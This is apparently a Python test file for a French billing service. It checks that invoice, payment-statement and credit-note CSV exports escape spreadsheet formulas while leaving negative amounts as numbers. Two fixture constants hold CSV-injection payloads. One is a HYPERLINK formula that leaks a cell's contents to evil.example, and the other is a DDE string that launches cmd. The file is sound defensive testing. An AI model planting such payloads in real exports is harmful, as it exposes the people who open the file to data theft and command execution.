"""CSV exports never hand a spreadsheet a formula (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io

from models.accounts.people import Client
from services.spreadsheet import safe_cell
from tests.billing import factories as bh
from tests.billing.factories import PAY, STATEMENT, credit, local, paris, pay

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1;"Cliquez")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"


def rows_of(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))


def test_formula_cells_are_quoted_and_numbers_left_alone() -> None:
    for value in (HYPERLINK, DDE, "+1+1", "-2+3", "\t=1", "\r=1", "＝1"):
        assert safe_cell(value) == "'" + value
    for value in ("-82,50", "165,00", "10,00 %", "Mode prestataire", "", "5 rue de l'Église"):
        assert safe_cell(value) == value


async def test_every_billing_csv_neutralises_formulas(api, settings):
    t = await bh.team(api, settings)
    await Client.filter(id=t.client_id).update(billing_line1=HYPERLINK)
    await bh.visit(t, paris(2026, 10, 6, 9), worked=(0, 120))
    await bh.run(api, t, "2026-10")
    [invoice] = await bh.invoices(api, t.client_token)
    flat = [
        cell
        for row in rows_of((await api.http.get(local(invoice["csvUrl"]))).content)
        for cell in row
    ]
    assert not any(cell.startswith(("=", "@", "+")) for cell in flat)
    assert any(cell.startswith("'" + HYPERLINK) for cell in flat)
    payment = await pay(api, t.staff_token, invoice["id"], "10.00", day="2026-11-20")
    assert payment["userErrors"] == []
    await api.data(
        PAY,
        {
            "input": {
                "invoiceId": invoice["id"],
                "method": "CHEQUE",
                "amount": "1.00",
                "receivedOn": "2026-11-21",
                "reference": DDE,
            }
        },
        token=t.staff_token,
    )
    statement = (await api.data(STATEMENT, {"year": 2026}, token=t.client_token))[
        "paymentStatement"
    ]
    rows = rows_of((await api.http.get(local(statement["csvUrl"]))).content)
    flat = [cell for row in rows for cell in row]
    assert "'" + DDE in flat and DDE not in flat
    note = (await credit(api, t.staff_token, invoice["id"]))["creditNote"]
    [credit_note] = [i for i in await bh.invoices(api, t.staff_token) if i["id"] == note["id"]]
    totals = {
        row[0]: row[1]
        for row in rows_of((await api.http.get(local(credit_note["csvUrl"]))).content)
        if len(row) == 2
    }
    assert totals["Total TTC (€)"] == "-66,00"  # a negative amount stays a number
